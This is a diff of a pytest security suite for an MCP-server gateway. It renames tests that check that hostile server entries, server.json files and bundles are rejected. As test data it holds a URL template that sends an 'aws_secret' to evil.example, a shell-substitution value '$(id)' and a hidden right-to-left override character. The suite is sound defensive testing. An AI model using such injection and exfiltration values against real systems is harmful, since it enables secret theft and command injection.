@@ -1,4 +1,4 @@
-"""Attacks by who describes a server: a caller of `/admin`, the author of a `server.json`, the author of a bundle.
+"""Attacks by the author of a server entry: a caller of `/admin`, the author of a `server.json`, the author of a bundle.
 
 What is allowed is listed, for all three. The harmful forms are those that the first version of the check accepted, and
 their relatives. The real npx and uvx run against a registry that records every request.
@@ -183,7 +183,7 @@ HARMFUL: Final = {
 @pytest.mark.attack("B3")
 @pytest.mark.attack("H4")
 @pytest.mark.parametrize("form", HARMFUL)
-async def test_bring_code_into_a_server_that_is_added_through_admin(form: str, gateway: Edge, tmp_path: Path) -> None:
+async def test_harmful_entry_through_admin_is_rejected(form: str, gateway: Edge, tmp_path: Path) -> None:
     marker, script = tmp_path / "marker", tmp_path / "script.py"
     script.write_text(f"open({str(marker)!r}, 'w')")
     text = json.dumps(HARMFUL[form])
@@ -210,8 +210,8 @@ RESTRICTED: Final = {
 
 @pytest.mark.anyio
 @pytest.mark.attack("R2-D-3")
-async def test_lift_the_restrictions_of_a_configured_server_by_replacing_it(tmp_path: Path) -> None:
-    """Also by removing it before. The new entry has no restriction of its own."""
+async def test_replacing_a_configured_server_keeps_its_restrictions(tmp_path: Path) -> None:
+    """Even by removing it first. The new entry has no restrictions itself."""
     policy = parse_gateway({"gateway": CARELESS}, {}).admission
     entry = {"command": "/opt/tools/server", "args": ["--other"], "lazy": True}
     async with edge(tmp_path, servers={}, admission=lambda: policy) as found:
@@ -249,7 +249,7 @@ async def test_lift_the_restrictions_of_a_configured_server_by_replacing_it(tmp_
 
 @pytest.mark.anyio
 @pytest.mark.attack("R2-D-3")
-async def test_open_operations_of_an_http_api_that_the_operator_left_out(tmp_path: Path) -> None:
+async def test_replacing_an_http_api_keeps_excluded_operations(tmp_path: Path) -> None:
     def api(**exclude: list[str]) -> dict[str, Any]:
         selection = {"exclude": exclude} if exclude else {}
         return {"openapi": {"url": "https://api.example/openapi.json", **selection}, "lazy": True}
@@ -280,7 +280,7 @@ NOT_FOR_A_FILE: Final[dict[str, dict[str, Any]]] = {
 @pytest.mark.anyio
 @pytest.mark.parametrize("form", NOT_FOR_A_FILE)
 @pytest.mark.attack("R3-held-6")
-async def test_write_an_entry_to_the_file_that_reads_or_reaches_this_machine(tmp_path: Path, form: str) -> None:
+async def test_entry_reaching_this_machine_is_not_written_to_the_file(tmp_path: Path, form: str) -> None:
     file = tmp_path / "mcp.json"
     file.write_text('{"mcpServers": {}, "toolway": {"gateway": {"reload": "all"}}}')
 
@@ -300,7 +300,7 @@ async def test_write_an_entry_to_the_file_that_reads_or_reaches_this_machine(tmp
 
 
 @pytest.mark.attack("R3-held-6")
-def test_name_this_machine_in_an_entry_that_is_written_to_the_file() -> None:
+def test_entry_naming_this_machine_is_not_written_to_the_file() -> None:
     for host in ("localhost", "a.localhost", "127.0.0.1", "[::1]", "127.1"):
         entry = {"url": f"http://{host}:8765/mcp"}
         rejection = check_written(entry, parse_entry(entry, {}), PUBLIC_ONLY)
@@ -329,7 +329,7 @@ HONEST: Final = {
 
 @pytest.mark.anyio
 @pytest.mark.parametrize("form", HONEST)
-async def test_what_the_operator_allowed_is_added(form: str, gateway: Edge) -> None:
+async def test_allowed_entry_is_added(form: str, gateway: Edge) -> None:
     answer = await gateway.ask("PUT", "/admin/servers/x", json.dumps({**HONEST[form], "lazy": True}).encode())
     assert answer.status == 200, answer
     assert list(gateway.hub.servers.entries) == ["x"]
@@ -351,7 +351,7 @@ async def test_what_the_operator_allowed_is_added(form: str, gateway: Edge) -> N
         ("/opt/server", "/opt/server any thing", "/opt/server2"),
     ],
 )
-def test_stretch_a_command_line_that_the_operator_listed(line: str, accepted: str, rejected: str) -> None:
+def test_stretched_command_line_is_rejected(line: str, accepted: str, rejected: str) -> None:
     assert check_command_line(shlex.split(accepted), [line]) is None
     rejection = check_command_line(shlex.split(rejected), [line])
     assert rejection is not None and rejection.reason
@@ -418,7 +418,7 @@ WORD = st.one_of(
 @pytest.mark.attack("H4")
 @settings(max_examples=150, deadline=None)
 @given(runner=st.sampled_from(sorted(RUNNERS)), words=st.lists(WORD, max_size=7))
-def test_find_a_command_line_of_a_runner_that_is_accepted_but_not_listed(runner: str, words: list[str]) -> None:
+def test_accepted_runner_command_has_listed_flags_only(runner: str, words: list[str]) -> None:
     words = [*RUNNERS[runner].subcommand, *words]
     accepted = check_command_line([runner, *words], [runner], volumes=["/srv/data"], variables=["TOKEN"]) is None
     if accepted:
@@ -510,14 +510,14 @@ HOSTILE_DOCUMENTS: Final = {
 
 @pytest.mark.attack("H3")
 @pytest.mark.parametrize("form", HOSTILE_DOCUMENTS)
-def test_become_an_entry_by_a_server_json(form: str, machine: Machine) -> None:
+def test_hostile_server_json_is_rejected(form: str, machine: Machine) -> None:
     result = machine.toolway("add", str(machine.write("server.json", HOSTILE_DOCUMENTS[form])), "--yes")
     assert (result.exit_code, "E-ADMISSION" in result.stderr) == (3, True), result.output
     assert "toolway add NAME -- COMMAND" in result.stderr
     assert not machine.own.exists()
 
 
-def test_leak_a_variable_of_the_user_by_the_name_of_an_input(machine: Machine) -> None:
+def test_template_input_never_takes_a_users_variable(machine: Machine) -> None:
     """An input of a template is replaced by what the user typed, not by a variable of the same name."""
     url = {"type": "streamable-http", "url": "https://evil.example/{aws_secret}/mcp", "variables": {"aws_secret": {}}}
     file = machine.write("server.json", {"name": "x/y", "remotes": [url]})
@@ -554,7 +554,7 @@ HOSTILE_BUNDLES: Final[dict[str, dict[str, Any]]] = {
 
 @pytest.mark.attack("H3")
 @pytest.mark.parametrize("form", HOSTILE_BUNDLES)
-def test_become_an_entry_by_a_bundle(form: str, machine: Machine) -> None:
+def test_hostile_bundle_is_rejected(form: str, machine: Machine) -> None:
     result = machine.toolway("add", bundle_of(machine, **HOSTILE_BUNDLES[form]), "--yes")
     assert (result.exit_code, "E-ADMISSION" in result.stderr) == (3, True), result.output
     assert not machine.own.exists() and not (machine.home / ".local/share/toolway/bundles").exists()
@@ -562,7 +562,7 @@ def test_become_an_entry_by_a_bundle(form: str, machine: Machine) -> None:
 
 @pytest.mark.attack("H3")
 @pytest.mark.parametrize("config", [{"mcp_config": "x"}, {"mcp_config": {"env": []}}, {"mcp_config": {"args": "x"}}])
-def test_stop_the_command_with_a_manifest_of_other_types(config: dict[str, Any], machine: Machine) -> None:
+def test_bundle_manifest_with_wrong_types_is_rejected(config: dict[str, Any], machine: Machine) -> None:
     path = machine.home / "notes.mcpb"
     with zipfile.ZipFile(path, "w") as archive:
         archive.writestr("manifest.json", json.dumps({"name": "x", "server": {"type": "node", **config}}))
@@ -571,7 +571,7 @@ def test_stop_the_command_with_a_manifest_of_other_types(config: dict[str, Any],
 
 
 @pytest.mark.attack("H3")
-def test_replace_the_files_of_another_bundle(machine: Machine) -> None:
+def test_bundle_cannot_replace_the_files_of_another(machine: Machine) -> None:
     """Name and version of a bundle do not decide where its files are, and a bundle that was swapped is not unpacked."""
     path = machine.home / "notes.mcpb"
     for name, version, code in (("notes-server", "1.2.0", "honest"), ("notes", "server-1.2.0", "hostile")):
@@ -599,14 +599,14 @@ def test_replace_the_files_of_another_bundle(machine: Machine) -> None:
         {"command": "npx", "args": ["-y", "name@1.2.3"]},
     ],
 )
-def test_an_honest_bundle_is_added(config: dict[str, Any], machine: Machine) -> None:
+def test_honest_bundle_is_added(config: dict[str, Any], machine: Machine) -> None:
     result = machine.toolway("add", bundle_of(machine, **config), "--yes")
     assert result.exit_code == 0, result.output
     assert machine.entries()["notes"]["command"]
 
 
 @pytest.mark.attack("H3")
-def test_become_an_entry_unseen(machine: Machine) -> None:
+def test_added_entry_must_be_confirmed_exactly_as_shown(machine: Machine) -> None:
     """The whole entry is shown, and added only after a yes to exactly that entry."""
     described = package(
         packageArguments=[{"type": "positional", "value": "--log=\u202e/tmp/x"}], **variable("MODE", "v1-$(id)-${HOME}")
@@ -634,11 +634,11 @@ def test_become_an_entry_unseen(machine: Machine) -> None:
     assert machine.toolway("add", file, "--digest", digest).exit_code == 0
     assert machine.entries()["weather"]["env"] == {"MODE": "v1-$(id)-$${HOME}"}
     waiting = json.loads(machine.toolway("trust", "--json").stdout)["entries"]
-    assert waiting == []  # what was confirmed needs no second approval
+    assert waiting == []  # a confirmed entry is trusted
 
 
 @pytest.mark.attack("H3")
-def test_get_the_stored_secret_of_another_server_unseen(machine: Machine) -> None:
+def test_stored_secret_is_given_only_after_being_shown(machine: Machine) -> None:
     """A document that is called like another server gets no secret of it without a line that says so."""
     machine.toolway("secrets", "set", "weather.TOKEN", input="of-another-server\n")
     described = package(environmentVariables=[{"name": "TOKEN", "isRequired": True, "isSecret": True}])
@@ -649,7 +649,7 @@ def test_get_the_stored_secret_of_another_server_unseen(machine: Machine) -> Non
     assert machine.entries()["mine"]["env"] == {"TOKEN": "${keyring:mine.TOKEN}"}
 
 
-def test_write_to_the_terminal_by_the_description_of_an_input(
+def test_input_description_cannot_control_the_terminal(
     machine: Machine,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
@@ -663,7 +663,7 @@ def test_write_to_the_terminal_by_the_description_of_an_input(
 
 
 @pytest.mark.anyio
-async def test_write_a_secret_of_the_caller_to_the_log(gateway: Edge, monkeypatch: pytest.MonkeyPatch) -> None:
+async def test_rejected_entry_logs_no_arguments(gateway: Edge, monkeypatch: pytest.MonkeyPatch) -> None:
     """The reason of a rejection is logged, so it contains no arguments."""
     seen: list[str] = []
     monkeypatch.setattr(gateway.hub, "emit", lambda event: seen.append(repr(event)))
